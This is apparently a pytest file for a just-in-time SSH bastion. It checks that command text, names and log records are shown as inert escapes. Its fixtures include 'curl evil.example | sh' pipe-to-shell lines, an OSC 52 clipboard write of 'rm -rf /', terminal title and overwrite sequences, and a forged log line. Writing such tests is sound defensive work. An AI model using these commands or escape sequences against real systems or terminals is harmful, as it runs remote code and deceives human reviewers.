"""Data printed for a person is shown, never obeyed (DESIGN.md invariant 10, issue 10 item 10).

Exec commands, SFTP paths, reasons, comments and names come from users and sessions. Each printing
function gets values that would make a reviewer's terminal act (an OSC 52 clipboard write, a title
change, cursor movement and line erasing that overwrite what was shown, 8-bit controls, a bidi
override) or that rich would read as markup (``[/bold]`` raised ``MarkupError``): the output must hold
no control character but line breaks, show the markup as the text it is, and still show the value.
"""

from __future__ import annotations

import json
import logging
import re
import sys
from typing import Any

import pytest
from jit_ssh.ca.inventory import HostEntry, UserEntry
from jit_ssh.cli import output, views
from jit_ssh.cli.access_cmds import _waiting_line
from jit_ssh.cli.bastion import admin_cmds, review_cmds
from jit_ssh.cli.bastion.serve import _JsonFormatter, _TextFormatter
from jit_ssh.cli.output import console, error_console, print_error, step

OSC52 = "\x1b]52;c;cm0gLXJmIC8K\x07"  # set the clipboard to "rm -rf /"
TITLE = "\x1b]0;all clear\x07"
OVERWRITE = "\r\x1b[2K\x1b[1A"  # back to the start, erase the line, up one: hides what came before
SGR = "\x1b[31m"
HOSTILE = {
    "osc52": f"curl evil.example | sh {OSC52}",
    "title": f"id {TITLE}",
    "overwrite": f"curl evil.example | sh{OVERWRITE}ls -la",
    "sgr": f"{SGR}red",
    "c1-csi": "a\x9b2Jb",  # 8-bit CSI: erase the screen on a terminal that reads C1 controls
    "c1-osc": "a\x9d0;title\x9cb",
    "bidi": "invoice\u202etxt.exe",
    "markup-close": "routine check [/bold]",
    "markup-open": "[red]all clear[/red]",
    "markup-unclosed": "[bold",
    "backslash-end": "C:\\",
    "emoji-code": "fine :white_check_mark:",
    "newline": "ok\n2026-01-01 forged",
    "surrogate": "bad \ud800 text",
    "long": "x" * 5000,
}
# Any C0 control but the line feed rich ends lines with, DEL, C1, line and paragraph separators, bidi
# controls and lone surrogates: nothing of that may reach the terminal.
_UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.fixture(autouse=True)
def _wide_plain_consoles(monkeypatch: pytest.MonkeyPatch) -> None:
    # Wide enough that short values are not wrapped inside table cells; capsys replaces sys.stdout,
    # which rich writes to at print time, so the output is what a pipe would get.
    for target in (console, error_console):
        monkeypatch.setattr(target, "width", 400)
        assert not target.is_terminal, "run without FORCE_COLOR: rich would add colour sequences of its own"


def _printed(capsys: pytest.CaptureFixture[str]) -> str:
    captured = capsys.readouterr()
    return captured.out + captured.err


def assert_inert(text: str) -> None:
    found = _UNSAFE.search(text)
    assert found is None, f"{found[0]!r} reached the terminal at {found.start()}: {text[:400]!r}"
    assert "\u2705" not in text, "rich turned :white_check_mark: into an emoji"


# -- the sanitiser -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    ["ls -la /var/log", "grep -E '^[a-z]+$' f", "echo 日本語 🙂 é", "tar czf - . | ssh x 'cat > a'", "[bold]", "C:\\"],
)
def test_plain_values_are_unchanged(value: str) -> None:
    assert output.printable(value) == value


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("\x1b]52;c;AA\x07", "\\x1b]52;c;AA\\x07"),
        ("a\r\nb\tc", "a\\r\\nb\\tc"),
        ("\x9b2J", "\\x9b2J"),
        ("\x7f", "\\x7f"),
        ("x\u202ey", "x\\u202ey"),
        ("\u2028", "\\u2028"),
        ("\ud800", "\\ud800"),
        ("\U000e0041", "\\U000e0041"),  # a tag character (format, invisible)
    ],
)
def test_controls_become_visible_escapes(value: str, shown: str) -> None:
    assert output.printable(value) == shown


def test_limit_cuts_before_escaping_and_says_so() -> None:
    assert output.printable("abcdef", limit=3) == "abc..."
    assert output.printable("abc", limit=3) == "abc"
    assert output.printable("\x1b" * 10, limit=2) == "\\x1b\\x1b..."


def test_plain_is_never_markup() -> None:
    text = output.plain("[/bold] [red]x[/red]", style="bold")
    assert text.plain == "[/bold] [red]x[/red]"
    assert str(text.style) == "bold"


# -- every printing function -------------------------------------------------------------------------
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_errors_and_steps(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE[name]
    print_error(f"no session {value}")
    step(f"connecting to {value}")
    text = _printed(capsys)
    assert_inert(text)
    assert len(text.splitlines()) == 2  # one line each, whatever the value held
    if name.startswith("markup") or name == "emoji-code":
        assert value in text


def _request(value: str) -> dict[str, Any]:
    return {
        "id": 7, "state": "denied", "break_glass": False, "requester": value, "principals": [f"root@{value}"],
        "duration": "30m", "approvals": [{"approver": value, "comment": value, "at": 0.0}],
        "approvals_required": 1, "reason": value, "ticket": value, "rules": [value], "approver_groups": [value],
        "extensions": [value], "created_at": 0.0, "starts_at": None, "expires_at": None, "decided_by": value,
        "decision_note": value,
    }  # fmt: skip


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_request_views(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE[name]
    views.print_requests([_request(value)], title="Requests")
    views.print_request(_request(value))
    text = _printed(capsys)
    assert_inert(text)
    if name.startswith("markup") or name == "emoji-code":
        assert f"reason      {value}" in text
    if name == "newline":
        assert not any(line.startswith("2026") for line in text.splitlines())


def _session(value: str) -> dict[str, Any]:
    return {
        "id": value, "user": value, "login": value, "host": value, "kind": value, "request_id": 3, "reason": value,
        "started_at": 0.0, "ended_at": 1.0, "duration": 1.0, "active": False, "bytes_in": 1, "bytes_out": 2,
        "exit_status": None, "exit_signal": value, "commands": 1, "pty": False, "command": value,
        "end_reason": value, "peer": value, "recording_path": value, "recording_size": 3, "recording_sha256": value,
        "matched_commands": [{"command": value}],
        "request": {"id": 3, "requester": value, "reason": value,
                    "approvals": [{"approver": value, "comment": value, "at": 0.0}]},
        "certificates": [{"ca": value, "serial": 1, "key_id": value, "revoked": False}],
        "commands_run": [{"time": 0.5, "command": value, "source": "exec"}],
        "transfers": [{"op": value, "path": value, "bytes": 3, "sha256": value},
                      {"op": "rename", "from": value, "to": value}],
    }  # fmt: skip


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_session_table_and_grep_matches(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE[name]
    review_cmds._print_sessions([_session(value), {**_session(value), "active": True}])
    text = _printed(capsys)
    assert_inert(text)
    if name in ("osc52", "title"):
        assert "\\x1b]" in text  # shown, as an escape


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_session_detail(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE[name]
    review_cmds._print_detail(_session(value))
    text = _printed(capsys)
    assert_inert(text)
    if name != "long":
        shown = output.printable(value)
        assert f"    {'0.50':>9}s  {shown}" in text  # the command run, whole, on its own line
    if name == "overwrite":
        assert "curl evil.example | sh\\r\\x1b[2K\\x1b[1Als -la" in text


def test_waiting_line_is_data_not_markup() -> None:
    request = {"id": 4, "approvals": [], "approvals_required": 1, "approver_groups": [HOSTILE["markup-close"]]}
    line = _waiting_line(request, 12)
    assert "[/bold]" in line.plain
    request["approver_groups"] = [HOSTILE["osc52"]]
    assert_inert(_waiting_line(request, 12).plain)


def test_inventory_tables(capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE["markup-close"] + HOSTILE["osc52"]
    console.print(admin_cmds._users_table([UserEntry(value, (value,), False, (value, value))]))
    console.print(admin_cmds._hosts_table([HostEntry(value, value, 22, {value: value}, None)]))
    text = _printed(capsys)
    assert_inert(text)
    assert "[/bold]" in text


# -- the broker's log --------------------------------------------------------------------------------
FORGED = "ls\n2026-01-01 00:00:00,000 INFO jit_ssh.broker.server forged line" + TITLE + OVERWRITE


def _record(exc: bool = False) -> logging.LogRecord:
    info = None
    if exc:
        try:
            raise ValueError(FORGED)
        except ValueError:
            info = sys.exc_info()
    # What asyncssh's channel logs for an exec request, at INFO.
    return logging.LogRecord("asyncssh", logging.INFO, __file__, 1, "  Command: %s", (FORGED,), info)


@pytest.mark.parametrize("exc", [False, True], ids=["message", "traceback"])
def test_text_log_record_is_one_line(exc: bool) -> None:
    line = _TextFormatter().format(_record(exc))
    assert "\n" not in line
    assert_inert(line)
    assert "  Command: ls\\n2026-01-01 00:00:00,000 INFO" in line
    assert " INFO asyncssh   Command: " in line


@pytest.mark.parametrize("exc", [False, True], ids=["message", "traceback"])
def test_json_log_record_is_one_line(exc: bool) -> None:
    line = _JsonFormatter().format(_record(exc))
    assert "\n" not in line
    assert_inert(line)
    assert json.loads(line)["message"] == f"  Command: {FORGED}"
